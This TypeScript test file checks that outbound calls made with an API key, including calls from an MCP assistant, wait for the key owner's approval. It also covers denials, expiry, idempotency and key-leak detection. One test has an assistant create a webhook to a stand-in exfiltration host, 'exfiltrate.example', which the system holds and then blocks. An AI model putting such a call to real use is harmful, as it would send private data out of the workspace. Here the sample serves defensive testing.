import assert from 'node:assert/strict'
import { randomUUID } from 'node:crypto'
import { after, before, beforeEach, test } from 'node:test'
import { z } from 'zod'
import { listApprovals } from '../../operations/approvals/list.ts'
import { operation } from '../../operations/operation.ts'
import type { Module } from '../../operations/module.ts'
import { Refusal } from '../../kernel/refusal.ts'
import { revokeKey } from '../../keys/issue.ts'
import { assistantOf } from '../../mcp/testing.ts'
import type { ToolMessage } from '../../mcp/messages.ts'
import { callTool } from '../../mcp/tools/tools.ts'
import { modules } from '../../modules/index.ts'
import { label } from '../../modules/labels/access.ts'
import { Browser, givePasswords } from '../../testing/browser.ts'
import { dayLong } from '../../testing/harness.ts'
import { serveWorkspace, type ServedWorkspace } from '../../testing/server.ts'

const sent: string[] = []
const letters: Module = {
  name: 'letters',
  about: 'Sends letters.',
  operations: [
    operation({
      name: 'send_letter',
      kind: 'write',
      rest: 'POST /api/letters',
      about: 'Send a letter to somebody outside',
      outbound: ({ to }) => to !== 'me',
      on: { label: label.see.maybe },
      input: { to: z.string(), text: z.string(), turn: z.int().optional() },
      dryRun: true,
      redactOnReplay: ['secret'],
      output: z.strictObject({ to: z.string(), secret: z.string(), by: z.string() }),
      async handle({ to, text }, ctx) {
        if (to === 'unwilling') throw new Refusal('provider_error', 'It never arrives.')
        if (!ctx.dryRun) sent.push(`${to}: ${text}`)
        await ctx.add('labels', { name: `sent to ${to} ${randomUUID()}`, color: '#000000' })
        return { to, secret: 'shown once', by: ctx.actor.key?.name ?? 'nobody' }
      },
    }),
    operation({
      name: 'send_many_letters',
      kind: 'write',
      rest: 'POST /api/letters/many',
      about: 'Send letters',
      input: {},
      output: z.unknown(),
      handle: async (_, ctx) => ctx.call('send_letter', { to: 'nested', text: 'hello' }),
    }),
    operation({
      name: 'export_letters',
      kind: 'read',
      rest: 'GET /api/letters/export',
      about: 'Export letters',
      outbound: true,
      output: z.strictObject({ letters: z.int() }),
      handle: async () => ({ letters: 7 }),
    }),
  ],
}

let served: ServedWorkspace
let ann: Browser
let bob: Browser
let holdingKey: { id: string; key: string }
before(async () => {
  served = await serveWorkspace({ modules: [...modules, letters] })
  await givePasswords(served, served.ann, served.bob)
  ann = await new Browser(served).signIn('ann@acme.test')
  bob = await new Browser(served).signIn('bob@acme.test')
})
beforeEach(async () => {
  holdingKey = await served.keyFor(served.bob, { name: 'helper', holdOutbound: true })
  sent.length = 0
})
after(() => served.close())

const send = (body: object, headers: Record<string, string> = {}) =>
  served.ask('POST', '/api/letters', {
    key: holdingKey.key,
    body: { text: 'hello', ...body },
    headers,
  })
const release = (id: string, who = bob) => who.post(`/web/approvals/${id}/release`)
/** Number of successful calls of the holding key in the log. */
const countLoggedLetters = () =>
  served.app.store.raw.read
    .prepare(
      "SELECT count(*) FROM calls WHERE key_id = ? AND tool = 'send_letter' AND status = 'ok'",
    )
    .pluck()
    .get(holdingKey.id) as number
const countLabels = () =>
  served.app.store.raw.read
    .prepare("SELECT count(*) FROM labels WHERE name LIKE 'sent to%'")
    .pluck()
    .get() as number

test('an outbound call of a holding key waits and is executed once its owner releases it, attributed to the key', async () => {
  const before = countLabels()
  const pending = await send({ to: 'eve' })
  assert.deepEqual([pending.status, pending.json.code], [409, 'approval_required'])
  assert.match(pending.json.message, /"helper" that needs Bob's approval/)
  const id = pending.json.approval_id as string
  const [row] = (await bob.get('/web/approvals')).json.items
  assert.deepEqual(
    [row.id, row.state, row.tool, row.arguments, row.key.name, row.asked_via],
    [id, 'pending', 'send_letter', { to: 'eve', text: 'hello' }, 'helper', 'api'],
  )
  assert.deepEqual([sent, countLabels()], [[], before])
  const got = await release(id)
  assert.deepEqual(
    [got.status, got.json.state, got.json.result],
    [200, 'released', { to: 'eve', secret: 'shown once', by: 'helper' }],
  )
  assert.deepEqual([sent, countLabels()], [['eve: hello'], before + 1])
  const calls = served.app.store.raw.read
    .prepare(
      "SELECT tool, status, error_code, transport, key_id FROM calls WHERE tool IN ('send_letter', 'release_approval') ORDER BY seq DESC LIMIT 3",
    )
    .all() as Record<string, unknown>[]
  assert.deepEqual(
    calls.map((call) => [call.tool, call.status, call.error_code, call.transport, call.key_id]),
    [
      ['release_approval', 'ok', null, 'web', null],
      ['send_letter', 'ok', null, 'web', holdingKey.id],
      ['send_letter', 'error', 'approval_required', 'rest', holdingKey.id],
    ],
  )
  assert.deepEqual(
    (await bob.get('/web/approvals?pending=false')).json.items[0].result,
    { to: 'eve', by: 'helper' },
    'without fields shown only once',
  )
})

test('a call is executed once, however many concurrent releases there are', async () => {
  const { json } = await send({ to: 'eve' })
  const got = await Promise.all(Array.from({ length: 8 }, () => release(json.approval_id)))
  assert.deepEqual(
    got.map((testResponse) => testResponse.status).sort(),
    [200, 409, 409, 409, 409, 409, 409, 409],
  )
  assert.deepEqual(sent, ['eve: hello'])
  assert.equal(countLoggedLetters(), 1)
})

test('only the owner of the key decides, in a browser and never with a key', async () => {
  const { json } = await send({ to: 'eve' })
  const path = `/web/approvals/${json.approval_id}`
  for (const name of ['release', 'deny']) {
    assert.equal((await ann.post(`${path}/${name}`)).status, 404, 'an administrator')
    assert.equal(
      (
        await served.ask('POST', `${path}/${name}`, {
          key: holdingKey.key,
          body: {},
          headers: { origin: served.app.baseUrl },
        })
      ).status,
      401,
    )
  }
  assert.deepEqual((await ann.get('/web/approvals')).json.items, [])
  assert.equal((await bob.post(`${path}/deny`)).json.state, 'denied')
  assert.equal((await release(json.approval_id)).status, 409)
  assert.deepEqual(sent, [])
})

test('a repeated call shares the pending approval; with an idempotency key it returns the result', async () => {
  const first = await send({ to: 'eve' })
  assert.equal((await send({ to: 'eve' })).json.approval_id, first.json.approval_id)
  assert.notEqual((await send({ to: 'dan' })).json.approval_id, first.json.approval_id)
  const sendKeyed = (name: string, to = 'eve') => send({ to }, { 'idempotency-key': name })
  const heldCall = await sendKeyed('one')
  assert.notEqual(heldCall.json.approval_id, first.json.approval_id)
  assert.equal((await sendKeyed('one')).json.approval_id, heldCall.json.approval_id)
  assert.equal((await sendKeyed('one', 'dan')).json.code, 'idempotency_conflict')
  await release(heldCall.json.approval_id)
  for (const days of [0, 2]) {
    const loggedBefore = countLoggedLetters()
    served.clock.pass(days * dayLong)
    const repeated = await sendKeyed('one')
    assert.deepEqual(
      [repeated.json.to, repeated.json.secret, repeated.headers.get('idempotency-replayed')],
      ['eve', undefined, 'true'],
    )
    assert.equal(
      countLoggedLetters(),
      loggedBefore + 1,
      `the repeated call is in the log after ${days} days`,
    )
  }
  assert.equal(sent.length, 1)
  const two = await sendKeyed('two')
  await bob.signIn('bob@acme.test')
  await ann.signIn('ann@acme.test')
  await bob.post(`/web/approvals/${two.json.approval_id}/deny`)
  assert.deepEqual(
    [(await sendKeyed('two')).status, (await sendKeyed('two')).json.approval_id],
    [403, two.json.approval_id],
  )
})

test('a denied call gets the reason at its next attempt, but not forever', async () => {
  const notices = async () =>
    (
      await served.bob.call('list_notifications', { unread: true, kind: ['security'] })
    ).items.filter((item: { item: { type: string } }) => item.item.type === 'approval')
  const first = (await send({ to: 'zoe' })).json.approval_id
  assert.deepEqual(
    (await notices()).map((notice: { item: { id: string } }) => notice.item.id).includes(first),
    true,
  )
  await bob.post(`/web/approvals/${first}/deny`, { reason: 'Ask Zoe by phone.' })
  assert.equal(
    (await notices()).some((notice: { item: { id: string } }) => notice.item.id === first),
    false,
    'the notification is read once it is decided',
  )
  const again = await send({ to: 'zoe' })
  assert.deepEqual(
    [again.status, again.json.code, again.json.reason, again.json.approval_id],
    [403, 'permission_denied', 'Ask Zoe by phone.', first],
  )
  assert.match(again.json.message, /denied this call\. Reason: Ask Zoe by phone\./)
  const approval = await served.ask('GET', `/api/approvals/${first}`, { key: holdingKey.key })
  assert.deepEqual([approval.json.status, approval.json.reason], ['denied', 'Ask Zoe by phone.'])
  const changed = await send({ to: 'zoe', text: 'hello, as you said' })
  assert.equal(changed.json.code, 'approval_required')
  const retried = await send({ to: 'zoe' }, { 'idempotency-key': 'after all' })
  assert.equal(retried.json.code, 'approval_required')
  served.clock.pass(61 * 60_000)
  assert.equal((await send({ to: 'zoe' })).json.code, 'approval_required')
})

test('an invalid call is refused at once, and a call that sends nothing outside is not held', async () => {
  assert.equal((await send({ to: 'eve', label_id: 'lbl_00000000000000000000000000' })).status, 404)
  assert.equal((await send({ to: {} })).status, 400)
  assert.equal(
    (await send({ to: 'eve', text: `see ${served.bearer}` })).json.code,
    'live_key_in_content',
  )
  for (const to of ['eve', 'me'])
    assert.equal(
      (await send({ to }, { 'idempotency-key': holdingKey.key })).json.code,
      'live_key_in_content',
      to,
    )
  assert.equal((await send({ to: 'eve', dry_run: true })).status, 200)
  assert.equal((await send({ to: 'me' })).status, 200)
  const { key } = await served.keyFor(served.bob)
  assert.equal(
    (await served.ask('POST', '/api/letters', { key, body: { to: 'eve', text: 'hello' } })).status,
    200,
    'another key',
  )
  assert.equal((await served.ask('GET', '/api/labels', { key: holdingKey.key })).status, 200)
  assert.equal(
    (await bob.post('/web/call/send_letter', { to: 'eve', text: 'hello' })).status,
    200,
    'the person',
  )
})

test('an operation that sends via another one is held as a whole, and so is a read that sends', async () => {
  const nested = await served.ask('POST', '/api/letters/many', { key: holdingKey.key, body: {} })
  assert.deepEqual([nested.status, nested.json.code], [409, 'approval_required'])
  assert.equal((await release(nested.json.approval_id)).json.result.to, 'nested')
  const read = await served.ask('GET', '/api/letters/export', { key: holdingKey.key })
  assert.equal(read.json.code, 'approval_required')
  assert.deepEqual((await release(read.json.approval_id)).json.result, { letters: 7 })
  assert.equal((await release(read.json.approval_id)).status, 409)
})

test('a call held only during execution keeps its idempotency key', async () => {
  const ask = () =>
    served.ask('POST', '/api/letters/many', {
      key: holdingKey.key,
      body: { idempotency_key: 'monday' },
    })
  const { json } = await ask()
  await release(json.approval_id)
  const again = await ask()
  assert.deepEqual([again.status, again.json.to, sent.length], [200, 'nested', 1])
})

test('a stopped webhook sends again only after approval, whichever way it is reactivated', async () => {
  const { id } = (
    await bob.post('/web/call/create_webhook', {
      url: 'https://93.184.216.34/hook',
      events: ['task.*'],
    })
  ).json
  const ask = (method: string, path: string, body: object | undefined = {}) =>
    served.ask(method, path, { key: holdingKey.key, ...(method === 'DELETE' ? {} : { body }) })
  const isActive = async () =>
    (await bob.post('/web/call/list_webhooks', {})).json.items.some(
      (item: { id: string; active: boolean }) => item.id === id && item.active,
    )
  const assertHeld = async (got: {
    status: number
    json: { code: string; approval_id: string }
  }) => {
    assert.deepEqual(
      [got.status, got.json.code, await isActive()],
      [409, 'approval_required', false],
    )
    assert.equal((await release(got.json.approval_id)).status, 200)
    assert.ok(await isActive())
  }
  const paused = await ask('PATCH', `/api/webhooks/${id}`, { active: false })
  assert.equal(paused.status, 200)
  const undo = (call: string | null, more = {}) => ask('POST', `/api/api-calls/${call}/undo`, more)
  assert.equal((await undo(paused.headers.get('x-call-id'), { dry_run: true })).status, 200)
  await assertHeld(await undo(paused.headers.get('x-call-id')))
  const deleted = await ask('DELETE', `/api/webhooks/${id}`)
  await assertHeld(await ask('POST', `/api/trash-items/${id}/restore`))
  const renamed = await ask('PATCH', `/api/webhooks/${id}`, { name: 'Bridge' })
  assert.deepEqual(
    [deleted.status, renamed.status, (await undo(renamed.headers.get('x-call-id'))).status],
    [200, 200, 200],
    'these send nothing more outside',
  )
  assert.equal((await ask('DELETE', `/api/webhooks/${id}`)).status, 200)
  assert.equal(
    (await bob.post(`/web/call/restore_item`, { item_id: id })).status,
    200,
    'the person',
  )
})

test('a call that fails on release counts as not executed and stays pending', async () => {
  const { json } = await send({ to: 'unwilling' })
  assert.equal((await release(json.approval_id)).status, 502)
  assert.equal((await bob.get('/web/approvals')).json.items[0].state, 'pending')
})

test('a call can no longer be released after seven days or once its key has ended', async () => {
  const old = await send({ to: 'eve' })
  served.clock.pass(7 * dayLong)
  await bob.signIn('bob@acme.test')
  assert.deepEqual((await release(old.json.approval_id)).json.code, 'conflict')
  assert.deepEqual(
    (await bob.get('/web/approvals')).json.items.filter(
      (item: { id: string }) => item.id === old.json.approval_id,
    ),
    [],
  )
  assert.equal(
    (await bob.get('/web/approvals?pending=false')).json.items.find(
      (item: { id: string }) => item.id === old.json.approval_id,
    ).state,
    'expired',
  )
  const fresh = await send({ to: 'eve' })
  assert.notEqual(fresh.json.approval_id, old.json.approval_id)
  await revokeKey(served.app.store, served.clock, served.dataDir, { key: holdingKey.id })
  assert.match((await release(fresh.json.approval_id)).json.message, /is no longer valid/)
  assert.equal((await bob.post(`/web/approvals/${fresh.json.approval_id}/deny`)).status, 200)
  served.clock.pass(40 * dayLong)
  holdingKey = await served.keyFor(served.bob, { name: 'helper', holdOutbound: true })
  await send({ to: 'eve' })
  const remaining = await listApprovals(served.app.store, served.clock.now(), {
    pending: false,
    limit: 100,
  })
  assert.equal(remaining.length, 1, 'old approvals are deleted')
})

test('an MCP assistant is notified that approval is required, and a webhook is held before its address is resolved', async () => {
  const key = (await served.app.keys.authenticate(`Bearer ${holdingKey.key}`, 'mcp', { ip: '' }))
    .key
  const result = await callTool(
    served.app,
    { caller: assistantOf(served, served.bob, { key }) },
    {
      name: 'create_webhook',
      arguments: { url: 'https://exfiltrate.example/secret', events: ['task.*'] },
    },
    {} as ToolMessage,
  )
  const { code, approval_id, approval_url, message } = (
    result as { structuredContent: Record<string, string> }
  ).structuredContent
  assert.equal(code, 'approval_required')
  assert.equal(approval_url, `${served.app.baseUrl}/approvals#${approval_id}`)
  assert.ok(message?.includes(approval_url))
  await bob.signIn('bob@acme.test')
  const got = await release(approval_id!)
  assert.equal(got.json.code, 'blocked_address', got.text)
})
